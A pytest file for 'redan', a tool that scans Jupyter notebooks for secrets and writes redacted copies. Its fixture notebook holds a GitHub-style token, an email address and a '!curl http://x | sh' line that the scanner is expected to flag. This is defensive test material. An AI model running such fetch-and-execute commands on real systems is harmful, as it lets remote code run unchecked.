"""`redan redact` writes a clean copy and leaves the original alone; `redan scan` finds what it removes."""

from __future__ import annotations

import json
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

TOKEN = "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"


@pytest.fixture
def notebook(tmp_path: Path) -> Path:
    cell: dict[str, Any] = {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": [f"t = '{TOKEN}'\n", "!curl http://x | sh\n"],
        "outputs": [{"output_type": "stream", "name": "stdout", "text": [f"{TOKEN}\n", "mail jane@clinic.de\n"]}],
    }
    path = tmp_path / "a.ipynb"
    document = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    path.write_text(json.dumps(document, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


def rules(cli: Any, *words: object) -> list[tuple[str, str, int]]:
    report = json.loads(cli("scan", *words, "--format", "json").out)
    return [(f["rule"], f["status"], len(f["locations"])) for f in report["findings"]]


def test_scan_finds_the_secret_once_with_both_places_and_never_shows_it(cli: Any, notebook: Path) -> None:
    ended = cli("scan", notebook, "--format", "json")
    assert ended.code == 1
    assert TOKEN not in ended.out
    found = rules(cli, notebook)
    assert sorted(found) == [("RDN-SUP-011", "open", 2), ("RDN-SUP-014", "open", 1), ("RDN-SUP-016", "open", 1)]


def test_the_copy_is_clean_and_the_original_unchanged(cli: Any, notebook: Path) -> None:
    before = notebook.read_bytes()
    ended = cli("redact", notebook, "-o", "clean.ipynb")
    assert ended.code == 0
    assert "replaced: 1 email, 2 github" in ended.err
    assert notebook.read_bytes() == before
    assert [found[0] for found in rules(cli, "clean.ipynb")] == ["RDN-SUP-016"]
    clean = (notebook.parent / "clean.ipynb").read_text(encoding="utf-8")
    assert clean == before.decode().replace(TOKEN, "[redacted: github]").replace("jane@clinic.de", "[redacted: email]")


def test_outputs_can_be_left_out(cli: Any, notebook: Path) -> None:
    ended = cli("redact", notebook, "--outputs", "drop")
    cell = json.loads(ended.out)["cells"][0]
    assert cell["outputs"] == []
    assert TOKEN not in ended.out


def test_the_original_is_never_replaced(cli: Any, notebook: Path) -> None:
    ended = cli("redact", notebook, "-o", notebook)
    assert ended.code == 2
    assert "would replace the notebook" in ended.err


def test_what_is_no_notebook_is_refused(cli: Any, tmp_path: Path) -> None:
    (tmp_path / "b.ipynb").write_text("{")
    assert cli("redact", "b.ipynb").code == 3
    assert cli("redact", "gone.ipynb").code == 3
    ended = cli("scan", "b.ipynb", "--format", "json")
    assert "no JSON" in ended.out
    assert ended.code == 3


def test_a_secret_is_allowed_by_its_hash_with_reason_and_date(cli: Any, notebook: Path) -> None:
    digest = sha256(TOKEN.encode()).hexdigest()
    settings = notebook.parent / "redan.toml"
    settings.write_text(f'[scan]\nallow_secret = ["{digest} 2999-01-01 revoked, and kept as a fixture"]\n')
    assert ("RDN-SUP-011", "suppressed", 2) in rules(cli, notebook)
    settings.write_text(f'[scan]\nallow_secret = ["{digest} 2020-01-01 revoked"]\n')
    assert ("RDN-SUP-011", "open", 2) in rules(cli, notebook)
    settings.write_text('[scan]\nallow_secret = ["nonsense"]\n')
    assert "allow_secret" in cli("scan", notebook).out
